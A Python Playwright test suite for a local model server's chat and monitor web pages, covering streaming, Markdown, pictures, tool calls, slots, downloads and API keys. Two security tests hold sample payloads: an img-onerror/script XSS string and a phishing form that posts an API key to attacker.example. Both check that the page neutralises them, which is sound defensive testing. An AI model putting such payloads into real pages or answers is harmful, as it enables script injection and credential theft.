"""The chat and monitor pages in headless Chromium (Debian's `chromium`, driven by Playwright), against live
`strata serve` processes: the shipped demo model for answers and pictures, and a random-weight model with the
Qwen vocabulary for long answers (the demo model's answers end within ~20 tokens; a random model's run to the
token budget), served with the demo model's CPU image encoder.

Screenshots of both pages go to `$STRATA_SCREENSHOTS` when set (`STRATA_SCREENSHOTS=docs` refreshes the README's),
else to a temporary folder.
"""

from __future__ import annotations

import base64
import contextlib
import importlib.resources
import json
import os
import pathlib
import queue
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from strata.modelgen import write_random_model

SHIPPED = pathlib.Path(str(importlib.resources.files("strata.models")))
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
# Headless Chromium without the parts that reach out to the network or need a desktop.
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]
TIMEOUT_MS = 20_000

pytestmark = pytest.mark.skipif(not os.path.exists(CHROMIUM), reason=(
    "Debian's chromium is not installed (apt-get install chromium; ./scripts/test.sh installs it when run as root)"))


def red_circle_png() -> bytes:
    from io import BytesIO

    from PIL import Image, ImageDraw

    image = Image.new("RGB", (200, 200), "white")
    ImageDraw.Draw(image).ellipse((60, 60, 140, 140), fill="red")
    out = BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


PICTURE = base64.b64encode(red_circle_png()).decode()
WEATHER = {"type": "function", "function": {
    "name": "get_weather", "description": "Get the current weather in a city.",
    "parameters": {"type": "object", "properties": {"city": {"type": "string", "description": "The city name."}},
                   "required": ["city"]}}}


# --- servers and the browser


@dataclass
class Served:
    url: str
    lines: list[str] = field(default_factory=list)


@contextmanager
def strata_serve(*args: str, env: dict[str, str] | None = None, ready: str = "serving ") -> Iterator[Served]:
    """`strata serve` in a process of its own on an ephemeral port (`env` added to its environment), from its line
    that starts with `ready` (the model loaded; "listening on ": before it is); stopped with SIGINT (as Ctrl-C
    would)."""
    command = [str(pathlib.Path(sys.executable).parent / "strata"), "serve", "--host", "127.0.0.1", "--port", "0",
               "--limits.graceful-timeout", "1", *args]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                               env={**os.environ, "PYTHONUNBUFFERED": "1", **(env or {})})
    lines: queue.SimpleQueue[str | None] = queue.SimpleQueue()
    served = Served("")

    def read() -> None:
        assert process.stdout is not None
        for line in process.stdout:
            served.lines.append(line.rstrip("\n"))
            lines.put(line)
        lines.put(None)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    try:
        deadline = time.monotonic() + 90
        while not served.url:
            line = lines.get(timeout=max(deadline - time.monotonic(), 0.1))
            assert line is not None, "strata serve ended:\n" + "\n".join(served.lines)
            if line.startswith(ready):
                served.url = line.split(" on ")[-1].strip()
        yield served
    finally:
        process.send_signal(signal.SIGINT)
        try:
            process.wait(20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        reader.join(5)
        assert process.stdout is not None
        process.stdout.close()


@pytest.fixture(scope="module")
def demo() -> Iterator[Served]:
    with strata_serve("--vision.threads", "1") as served:
        yield served


@pytest.fixture(scope="module")
def random_model(tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
    # 128 wide, like the demo model, so the demo model's encoder feeds it.
    return write_random_model(tmp_path_factory.mktemp("web") / "random.gguf", arch="qwen3moe", size="tiny",
                              dtype="f16", vocab="qwen", seed=0, n_embd=128)


@pytest.fixture(scope="module")
def long_answers(random_model: pathlib.Path) -> Iterator[Served]:
    # One slot: a second request waits, and the monitor shows it queued.
    with strata_serve("--model", str(random_model), "--vision.mmproj", str(SHIPPED / "demo-mmproj.gguf"),
                      "--vision.threads", "1", "--slots", "1") as served:
        yield served


@pytest.fixture(scope="module")
def three_slots(random_model: pathlib.Path) -> Iterator[Served]:
    with strata_serve("--model", str(random_model), "--slots", "3") as served:
        yield served


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


@pytest.fixture
def page_errors() -> list[str]:
    """The page's script errors and console errors; a test that expects some removes them."""
    return []


@pytest.fixture
def page(browser: Any, page_errors: list[str]) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1280, "height": 800})  # a fresh profile: no chats, no key
    context.set_default_timeout(TIMEOUT_MS)
    opened = context.new_page()
    errors = page_errors
    opened.on("pageerror", lambda error: errors.append(str(error)))
    # Console errors include content-policy violations; a 401 the page answers by asking for the key is expected.
    opened.on("console", lambda message: message.type == "error" and "401" not in message.text
              and errors.append(message.text))
    yield opened
    context.close()
    assert not errors, errors


@pytest.fixture(scope="module")
def screenshots(tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
    folder = os.environ.get("STRATA_SCREENSHOTS")
    return pathlib.Path(folder) if folder else tmp_path_factory.mktemp("screenshots")


# --- page helpers


def settings(page: Any, **values: str) -> None:
    page.get_by_role("button", name="Settings").click()
    labels = {"temperature": "Temperature", "max_tokens": "Max tokens", "tools": "Tools", "system": "System prompt"}
    for key, value in values.items():
        if key == "reasoning":
            page.get_by_label("Reasoning effort").select_option(value)
        else:
            page.get_by_label(labels[key]).fill(value)
    page.get_by_role("button", name="Settings").click()


def ask(page: Any, text: str) -> Any:
    page.get_by_test_id("prompt").fill(text)
    page.get_by_test_id("send").click()
    return page.locator(".message.assistant").last


def finished(answer: Any) -> None:
    answer.and_(answer.page.locator("[data-status=done]")).wait_for()


def paste_picture(page: Any, png_base64: str) -> None:
    """A paste of a PNG file into the prompt box, as the clipboard delivers a copied picture."""
    page.get_by_test_id("prompt").evaluate("""(box, data) => {
        const bytes = Uint8Array.from(atob(data), (c) => c.charCodeAt(0));
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytes], "circle.png", { type: "image/png" }));
        box.dispatchEvent(new ClipboardEvent("paste", { clipboardData: transfer, bubbles: true }));
    }""", png_base64)


def watch_text(answer_locator: Any) -> None:
    """Record every length the page's last assistant message takes (to see it grow while streaming)."""
    answer_locator.page.evaluate("""() => {
        window.lengths = [];
        new MutationObserver(() => {
            const answers = document.querySelectorAll(".message.assistant .markdown");
            if (answers.length) window.lengths.push(answers[answers.length - 1].textContent.length);
        }).observe(document.body, { subtree: true, childList: true, characterData: true });
    }""")


def answer_with(page: Any, text: str) -> None:
    """The page's next answers are `text`, streamed as the server streams a chat completion (the text in small
    deltas, then the finish and the usage), whatever the question: for answers no model can be made to write."""
    def chunk(delta: dict[str, Any], finish: str | None = None, **extra: Any) -> str:
        body = {"id": "chatcmpl-scripted", "object": "chat.completion.chunk", "created": 0, "model": "demo",
                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}] if delta is not None else [],
                **extra}
        return f"data: {json.dumps(body)}\n\n"

    usage = {"prompt_tokens": 9, "completion_tokens": 3, "total_tokens": 12}
    body = (chunk({"role": "assistant", "content": ""})
            + "".join(chunk({"content": text[i:i + 3]}) for i in range(0, len(text), 3))
            + chunk({}, "stop") + chunk(None, usage=usage) + "data: [DONE]\n\n")
    page.route("**/v1/chat/completions", lambda route: route.fulfill(
        status=200, headers={"content-type": "text/event-stream", "cache-control": "no-cache"}, body=body))


def copied(page: Any, answer: Any) -> str:
    """What the answer's Copy button puts on the clipboard."""
    answer.get_by_test_id("copy").click()
    answer.get_by_test_id("copy").filter(has_text="Copied").wait_for()
    return str(page.evaluate("navigator.clipboard.readText()"))


def status(served: Served) -> dict[str, Any]:
    return httpx.get(served.url + "/status", timeout=10).json()


# --- the chat page


def test_a_question_streams_an_answer_with_its_thinking_folded(demo: Served, page: Any) -> None:
    page.goto(demo.url + "/")
    page.get_by_text("demo", exact=True).wait_for()  # the model's name, from /v1/models
    settings(page, temperature="0")
    with page.expect_response("**/v1/chat/completions") as response:
        answer = ask(page, "What is the capital of France?")
    assert response.value.headers["content-type"].startswith("text/event-stream")
    assert response.value.request.post_data_json["stream"] is True
    assert response.value.request.headers["content-type"] == "application/json"
    finished(answer)
    assert "The capital of France is Paris." in answer.locator(".markdown").inner_text()
    thinking = answer.locator("details.thinking")
    assert thinking.get_attribute("open") is None and "France" in thinking.text_content()  # folded, kept
    assert "prompt tokens" in answer.locator(".usage").inner_text()
    # Kept in the browser: a reload shows the conversation again.
    page.reload()
    page.locator(".message.assistant [data-status=done], .message.assistant[data-status=done]").first.wait_for()
    assert "Paris" in page.locator(".message.assistant").last.inner_text()


def test_answers_render_markdown_and_code_and_nothing_runs(demo: Served, page: Any) -> None:
    # A stored conversation (as an earlier answer would be kept), written straight into IndexedDB.
    page.goto(demo.url + "/")
    page.get_by_test_id("prompt").wait_for()
    text = ("Some **bold** text.\n\n```python\ndef add(a, b):\n    return a + b\n```\n\n"
            "<img src=x onerror=\"window.ran = true\"><script>window.ran = true</script>")
    page.evaluate("""(text) => new Promise((resolve, reject) => {
        const open = indexedDB.open("strata", 1);
        open.onsuccess = () => {
            const store = open.result.transaction("conversations", "readwrite").objectStore("conversations");
            const now = Date.now();
            store.put({ id: "stored", title: "Stored", created: now, updated: now + 1e6,
                        settings: { system: "", temperature: 0, reasoning: "none", maxTokens: 64, tools: "" },
                        messages: [{ role: "user", content: "Show me code." },
                                   { role: "assistant", content: text, status: "done" }] });
            store.transaction.oncomplete = resolve;
            store.transaction.onerror = reject;
        };
        open.onerror = reject;
    })""", text)
    page.reload()
    answer = page.locator(".message.assistant .markdown")
    answer.locator("pre code.hljs").wait_for()
    assert answer.locator("strong").inner_text() == "bold"
    assert answer.locator("pre code .hljs-keyword").first.inner_text() == "def"
    assert "return a + b" in answer.locator("pre code").inner_text()
    assert answer.locator("script").count() == 0 and answer.locator("img[onerror]").count() == 0
    assert page.evaluate("window.ran") is None
    # HTML in an answer shows as the characters the model wrote, never as elements: nothing loads, nothing runs,
    # and the content policy has nothing to report (the page fixture checks that no error was logged).
    assert '<img src=x onerror="window.ran = true"><script>window.ran = true</script>' in answer.inner_text()


# Answers that Markdown would turn into nothing (an empty list item, heading or quote, a link definition, an empty
# code block, HTML elements), and some that it must keep as written.
EXACT_ANSWERS = ["4.", "1)", "-", "*", "+", "#", ">", "```", "[1]: https://example.com/source", "2 + 2 =\n\n4.",
                 "Use <br> for a line break; <think> is the model's own tag."]


def test_the_page_shows_and_copies_exactly_what_the_model_wrote(demo: Served, page: Any) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=demo.url)
    page.goto(demo.url + "/")
    page.get_by_test_id("prompt").wait_for()
    for text in EXACT_ANSWERS:
        answer_with(page, text)
        answer = ask(page, "Answer in a few characters.")
        finished(answer)
        shown = answer.locator(".markdown").inner_text()
        assert shown.split() == text.split(), (text, shown)
        assert copied(page, answer) == text
        page.unroute("**/v1/chat/completions")
    # Markdown is still rendered, and copied as the model wrote it (a task list's boxes as the characters).
    tasks = "Steps:\n\n- [ ] to do\n- [x] **done**"
    answer_with(page, tasks)
    answer = ask(page, "What is left?")
    finished(answer)
    assert answer.locator(".markdown li").all_inner_texts() == ["[ ] to do", "[x] done"]
    assert answer.locator(".markdown li strong").inner_text() == "done"
    assert copied(page, answer) == tasks
    # Where the clipboard API refuses (or is missing: plain http to another machine), Copy still copies.
    page.evaluate("""() => { navigator.clipboard.writeText = () =>
        Promise.reject(new DOMException("Write permission denied.", "NotAllowedError")); }""")
    answer = page.locator(".message.assistant").nth(EXACT_ANSWERS.index("2 + 2 =\n\n4."))
    assert copied(page, answer) == "2 + 2 =\n\n4."


def test_a_form_in_an_answer_is_not_rendered(demo: Served, page: Any) -> None:
    """A model can be led to write a form that asks for the API key and posts it elsewhere: it shows as text."""
    phishing = ('Your session expired. <form action="https://attacker.example/steal" method="post">'
                '<input name="key" placeholder="API key"><textarea name="more"></textarea><select name="s"></select>'
                '<button type="submit">Sign in</button></form>')
    page.goto(demo.url + "/")
    answer_with(page, phishing)
    answer = ask(page, "Hello")
    finished(answer)
    markdown = answer.locator(".markdown")
    assert markdown.locator("form, input, textarea, select, button").count() == 0
    assert page.locator("form[action]").count() == 0
    assert "Your session expired." in markdown.inner_text()


@pytest.mark.parametrize("storage", ["missing", "refused"])
def test_the_pages_work_without_indexeddb(demo: Served, page: Any, storage: str) -> None:
    """Some private windows, and browsers with storage turned off, have no IndexedDB: the chat works without
    history and says so once; the monitor does not need it."""
    page.add_init_script({
        "missing": "delete window.indexedDB;",
        "refused": """IDBFactory.prototype.open = function () {
            throw new DOMException("The operation is insecure.", "SecurityError");
        };""",
    }[storage])
    page.goto(demo.url + "/")
    notice = page.get_by_test_id("no-history")
    notice.wait_for()
    assert "IndexedDB" in notice.inner_text()
    settings(page, temperature="0", reasoning="none")
    finished(ask(page, "What is the capital of France?"))
    answer = ask(page, "What is the capital of Italy?")
    finished(answer)
    assert "Rome" in answer.inner_text()
    assert page.get_by_test_id("no-history").count() == 1  # said once, not per answer
    assert page.locator(".conversations li").count() == 1  # kept for as long as the page is open
    page.goto(demo.url + "/monitor")
    page.get_by_test_id("engine").wait_for()
    page.locator("[data-testid=slots] tr[data-slot]").first.wait_for()


def test_a_pasted_picture_is_described(demo: Served, page: Any, screenshots: pathlib.Path) -> None:
    page.goto(demo.url + "/")
    settings(page, temperature="0", reasoning="none")
    paste_picture(page, PICTURE)
    page.locator(".pending img").wait_for()
    with page.expect_request("**/v1/chat/completions") as sent:
        answer = ask(page, "What is in the picture?")
    content = sent.value.post_data_json["messages"][-1]["content"]
    assert content[0]["type"] == "image_url" and content[0]["image_url"]["url"] == "data:image/png;base64," + PICTURE
    finished(answer)
    assert "a red circle" in answer.inner_text().lower()
    page.locator(".message.user img").wait_for()
    page.screenshot(path=str(screenshots / "web-chat.png"))


def test_a_picture_dropped_or_from_the_picker(demo: Served, page: Any, tmp_path: pathlib.Path) -> None:
    picture = tmp_path / "circle.png"
    picture.write_bytes(red_circle_png())
    page.goto(demo.url + "/")
    settings(page, temperature="0", reasoning="none")
    page.locator("main.chat").evaluate("""(area, data) => {
        const bytes = Uint8Array.from(atob(data), (c) => c.charCodeAt(0));
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytes], "dropped.png", { type: "image/png" }));
        area.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
    }""", PICTURE)
    page.locator(".pending img").wait_for()
    page.locator(".pending .thumb button").click()  # taken back
    assert page.locator(".pending img").count() == 0
    page.locator("input[type=file]").set_input_files(str(picture))
    page.locator(".pending img").wait_for()
    answer = ask(page, "What is in the picture?")
    finished(answer)
    assert "red circle" in answer.inner_text().lower()


def test_tool_calls_are_shown_and_answered(demo: Served, page: Any) -> None:
    page.goto(demo.url + "/")
    settings(page, temperature="0", tools=json.dumps([WEATHER]))
    answer = ask(page, "What is the weather in Paris?")
    finished(answer)
    call = answer.get_by_test_id("tool-call")
    assert "get_weather" in call.inner_text() and json.loads(call.locator("code").inner_text()) == {"city": "Paris"}
    with page.expect_request("**/v1/chat/completions") as sent:
        call.get_by_test_id("tool-result").fill('{"temperature": 18, "condition": "sunny"}')
        call.get_by_role("button", name="Send result").click()
    messages = sent.value.post_data_json["messages"]
    assert messages[-2]["tool_calls"][0]["function"]["name"] == "get_weather"
    assert messages[-1]["role"] == "tool" and messages[-1]["tool_call_id"] == messages[-2]["tool_calls"][0]["id"]
    final = page.locator(".message.assistant").nth(1)
    finished(final)
    text = final.inner_text()
    assert "sunny" in text and "18" in text and "Paris" in text


def test_edit_regenerate_and_export(demo: Served, page: Any) -> None:
    page.goto(demo.url + "/")
    settings(page, temperature="0", reasoning="none")
    finished(ask(page, "What is the capital of France?"))
    # Edit the question: the answer after it is replaced.
    page.locator(".message.user").get_by_role("button", name="Edit").click()
    page.locator(".message.editing textarea").fill("What is the capital of Italy?")
    page.get_by_role("button", name="Save and send").click()
    answer = page.locator(".message.assistant")
    finished(answer)
    assert page.locator(".message").count() == 2 and "Rome" in answer.inner_text()
    # Regenerate: the same question again, a new request.
    with page.expect_request("**/v1/chat/completions") as sent:
        page.get_by_test_id("regenerate").click()
    assert sent.value.post_data_json["messages"][-1] == {"role": "user", "content": "What is the capital of Italy?"}
    finished(page.locator(".message.assistant"))
    assert page.locator(".message").count() == 2
    with page.expect_download() as download:
        page.get_by_role("button", name="Export this chat").click()
    exported = json.loads(pathlib.Path(download.value.path()).read_text())
    assert [m["role"] for m in exported["messages"]] == ["user", "assistant"]
    assert "Rome" in exported["messages"][1]["content"] and exported["settings"]["temperature"] == "0"


def test_stop_hangs_up_and_frees_the_slot(long_answers: Served, page: Any) -> None:
    page.goto(long_answers.url + "/")
    settings(page, temperature="0", max_tokens="3000")  # greedy: this model's answer runs all 3,000 tokens
    watch_text(page.locator("body"))
    answer = ask(page, "Tell me a long story.")
    page.wait_for_function("() => (window.lengths || []).some((n) => n > 200)")
    assert status(long_answers)["busy"] is True
    page.get_by_test_id("stop").click()
    deadline = time.monotonic() + 5
    while status(long_answers)["busy"] and time.monotonic() < deadline:
        time.sleep(0.02)
    now = status(long_answers)
    assert {key: now[key] for key in ("busy", "queued", "phase", "request")} == {
        "busy": False, "queued": 0, "phase": "idle", "request": None}
    assert all(slot["state"] == "idle" for slot in now["slots"])
    answer.and_(page.locator("[data-status=stopped]")).wait_for()
    assert answer.get_by_test_id("stopped").is_visible()
    partial = answer.locator(".markdown").inner_text()
    assert len(partial) > 200
    lengths = page.evaluate("window.lengths")
    assert len(set(lengths)) > 5  # the answer grew on the page while it streamed
    (row, *_) = httpx.get(long_answers.url + "/v1/history").json()["data"]
    assert row["finish"] == "cancel" and 0 < row["output_tokens"] < 3000
    page.get_by_test_id("send").wait_for()  # ready for the next question


# --- the monitor page


def test_the_monitor_shows_phases_and_a_cancelled_request(long_answers: Served, page: Any,
                                                         screenshots: pathlib.Path) -> None:
    page.goto(long_answers.url + "/monitor")
    page.get_by_test_id("engine").wait_for()
    chat = long_answers.url + "/v1/chat/completions"
    story = {"messages": [{"role": "user", "content": "Tell me a long story."}], "max_tokens": 3000, "stream": True,
             "temperature": 0}
    # Greedy and long, so that its decode spans several of the page's 0.25 s updates: a short answer could pass
    # between two of them and leave no decode in its trail.
    picture = {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "data:image/png;base64," + PICTURE}},
        {"type": "text", "text": "What is in the picture?"}]}], "max_tokens": 1000, "temperature": 0}
    results: list[httpx.Response] = []
    with httpx.Client(timeout=60) as client, client.stream("POST", chat, json=story) as long_reply:
        chunks = long_reply.iter_bytes()  # kept: a dropped iterator closes the response
        first_chunk = json.loads(next(chunks).decode().split("data: ", 1)[1].split("\n", 1)[0])
        long_id = first_chunk["id"].removeprefix("chatcmpl-")  # the history row's id
        second = threading.Thread(target=lambda: results.append(httpx.post(chat, json=picture, timeout=60)))
        second.start()
        waiting = page.locator("[data-testid=requests] tr[data-phase=queued]")
        waiting.wait_for()
        page.locator("[data-testid=requests] tr[data-phase=decode]").wait_for()
        page.locator("[data-testid=requests] .progress").first.wait_for()
        page.get_by_test_id("queued").filter(has_text="1 waiting").wait_for()
        page.screenshot(path=str(screenshots / "web-monitor.png"))
        queued_id = waiting.get_attribute("data-request")
    # The long answer hung up: its row says cancel, and the picture's request got the engine.
    second.join(60)
    assert results and results[0].status_code == 200
    page.locator(f"[data-testid=recent] tr[data-request='{long_id}'][data-finish=cancel]").wait_for()
    done = page.locator(f"[data-testid=recent] tr[data-request='{queued_id}']")
    done.wait_for()
    trail = done.locator(".trail").inner_text().split(" → ")
    assert trail.index("queued") < trail.index("decode"), trail
    assert page.locator("[data-testid=plot-rate] polyline").get_attribute("points")
    assert "ready" in page.get_by_test_id("encoder").inner_text()


def test_the_monitor_shows_every_slot(three_slots: Served, page: Any) -> None:
    page.goto(three_slots.url + "/monitor")
    page.get_by_test_id("engine").wait_for()
    slots = page.locator("[data-testid=slots] tr[data-slot]")
    slots.nth(2).wait_for()
    assert slots.count() == 3
    page.get_by_test_id("slots-busy").filter(has_text="0 of 3 busy").wait_for()
    chat = three_slots.url + "/v1/chat/completions"
    ids = []
    with httpx.Client(timeout=60) as client, contextlib.ExitStack() as replies:
        # Greedy: this model's answer to it runs all 3,000 tokens (both stay in flight until they hang up).
        story = {"messages": [{"role": "user", "content": "Tell me a long story."}], "max_tokens": 3000,
                 "stream": True, "temperature": 0}
        for _ in range(2):
            reply = replies.enter_context(client.stream("POST", chat, json=story))
            chunks = replies.enter_context(contextlib.closing(reply.iter_bytes()))  # a dropped one would close it
            first_chunk = json.loads(next(chunks).decode().split("data: ", 1)[1].split("\n", 1)[0])
            ids.append(first_chunk["id"].removeprefix("chatcmpl-"))
        page.get_by_test_id("slots-busy").filter(has_text="2 of 3 busy").wait_for()
        decoding = page.locator("[data-testid=slots] tr[data-state=decode]")
        assert decoding.count() == 2
        assert sorted(row.locator("td.mono").inner_text() for row in decoding.all()) == sorted(i[:8] for i in ids)
        assert page.locator("[data-testid=slots] tr[data-state=idle]").count() == 1
        for request_id in ids:
            page.locator(f"[data-testid=requests] tr[data-request='{request_id}'][data-phase=decode]").wait_for()
    page.get_by_test_id("slots-busy").filter(has_text="0 of 3 busy").wait_for()
    page.goto("about:blank")  # closes the status stream before the server stops


def test_several_models_are_picked_by_name_and_shown_on_the_monitor(random_model: pathlib.Path, page: Any,
                                                                     tmp_path: pathlib.Path) -> None:
    other = write_random_model(tmp_path / "other.gguf", arch="qwen3moe", size="tiny", dtype="f16", vocab="qwen",
                               seed=1, n_embd=128)
    models = [{"name": "first", "model": str(random_model), "slots": 1},
              {"name": "second", "model": str(other), "aliases": ["2nd"], "slots": 2}]
    with strata_serve("--models", json.dumps(models)) as served:
        page.goto(served.url + "/monitor")
        table = page.get_by_test_id("models")
        table.locator("tr[data-model=first][data-state='not loaded']").wait_for()
        table.locator("tr[data-model=second][data-state='not loaded']").wait_for()
        page.goto(served.url + "/")
        picker = page.get_by_test_id("model-picker")
        picker.locator("option").nth(1).wait_for(state="attached")
        assert picker.locator("option").all_inner_texts() == ["first (not loaded)", "second (not loaded)"]
        picker.select_option("second")
        settings(page, max_tokens="4")
        finished(ask(page, "Hello"))
        page.goto(served.url + "/monitor")
        page.get_by_test_id("models").locator("tr[data-model=second][data-state=loaded]").wait_for()
        assert page.get_by_test_id("models").locator("tr[data-model=first][data-state='not loaded']").count() == 1
        assert "first, second" in page.get_by_test_id("engine").inner_text()
        page.get_by_test_id("slots-busy").filter(has_text="0 of 2 busy").wait_for()  # second's 2 (first's unloaded)
        page.locator("[data-testid=recent] tr[data-finish]").first.wait_for()
        assert "second" in page.locator("[data-testid=recent] tr[data-finish]").first.inner_text()
        page.goto("about:blank")  # closes the status stream before the server stops


def test_the_monitor_shows_a_models_download(random_model: pathlib.Path, page: Any, tmp_path: pathlib.Path) -> None:
    from hub_server import fake_hub

    repo = {"owner/random-GGUF": {"random-Q8_0.gguf": random_model.read_bytes()}}
    models = [{"name": "hubbed", "model": "hf:owner/random-GGUF:Q8_0", "slots": 1}]
    with fake_hub(repo, stall=4.0) as hub, strata_serve("--models", json.dumps(models), env={
            "HF_ENDPOINT": hub.url, "HF_HUB_CACHE": str(tmp_path / "hf-cache"), "HF_HUB_OFFLINE": "0"}) as served:
        page.goto(served.url + "/monitor")
        row = page.get_by_test_id("models").locator("tr[data-model=hubbed]")
        row.and_(page.locator("[data-state='not loaded']")).wait_for()
        replies: list[httpx.Response] = []
        asking = threading.Thread(target=lambda: replies.append(httpx.post(
            served.url + "/v1/chat/completions", timeout=60,
            json={"model": "hubbed", "max_tokens": 2, "messages": [{"role": "user", "content": "Hi"}]})))
        asking.start()
        download = row.get_by_test_id("download")
        download.wait_for()
        assert re.search(r"random-Q8_0\.gguf: 0\.0 of \d+\.\d MB, 0\.0 MB/s", download.inner_text())
        asking.join(60)
        assert replies[0].status_code == 200
        row.and_(page.locator("[data-state=loaded]")).wait_for()
        page.goto("about:blank")


def test_the_monitor_shows_a_single_models_download(random_model: pathlib.Path, page: Any,
                                                   tmp_path: pathlib.Path) -> None:
    from hub_server import fake_hub

    repo = {"owner/random-GGUF": {"random-Q8_0.gguf": random_model.read_bytes()}}
    hold = threading.Event()  # the file's bytes wait until the page has shown the download
    with fake_hub(repo, hold=hold) as hub, strata_serve("--hf", "owner/random-GGUF:Q8_0", "--slots", "1", env={
            "HF_ENDPOINT": hub.url, "HF_HUB_CACHE": str(tmp_path / "hf-cache"), "HF_HUB_OFFLINE": "0"},
            ready="listening on ") as served:
        page.goto(served.url + "/monitor")
        engine = page.get_by_test_id("engine")
        engine.get_by_test_id("model-state").filter(has_text="downloading").wait_for()
        download = engine.get_by_test_id("download")
        download.wait_for()
        assert re.search(r"random-Q8_0\.gguf: 0\.0 of \d+\.\d MB, 0\.0 MB/s", download.inner_text())
        assert "random-Q8_0" in engine.inner_text()
        hold.set()
        engine.get_by_test_id("model-state").filter(has_text="loaded").wait_for()
        assert download.count() == 0
        page.goto("about:blank")


# --- the API key


def test_a_server_with_a_key_asks_for_it_once(page: Any) -> None:
    with strata_serve("--api-key", "s3cret", "--vision.threads", "1") as served:
        assert httpx.get(served.url + "/v1/models").status_code == 401
        page.goto(served.url + "/")
        dialog = page.get_by_test_id("key-dialog")
        dialog.wait_for()
        page.get_by_test_id("api-key").fill("s3cret")
        page.get_by_role("button", name="Use this key").click()
        dialog.wait_for(state="detached")
        page.get_by_text("demo", exact=True).wait_for()
        settings(page, temperature="0")
        answer = ask(page, "What is the capital of France?")
        finished(answer)
        assert "Paris" in answer.inner_text()
        page.goto(served.url + "/monitor")  # the key is remembered: no second question
        page.get_by_test_id("engine").wait_for()
        assert page.get_by_test_id("key-dialog").count() == 0
        page.goto("about:blank")  # closes the status stream before the server stops


def test_the_terminal_shows_startup_progress(demo: Served) -> None:
    assert any(line.startswith("loading ") and "MiB" in line for line in demo.lines)
    assert "vision: starting the cpu encoder ..." in demo.lines
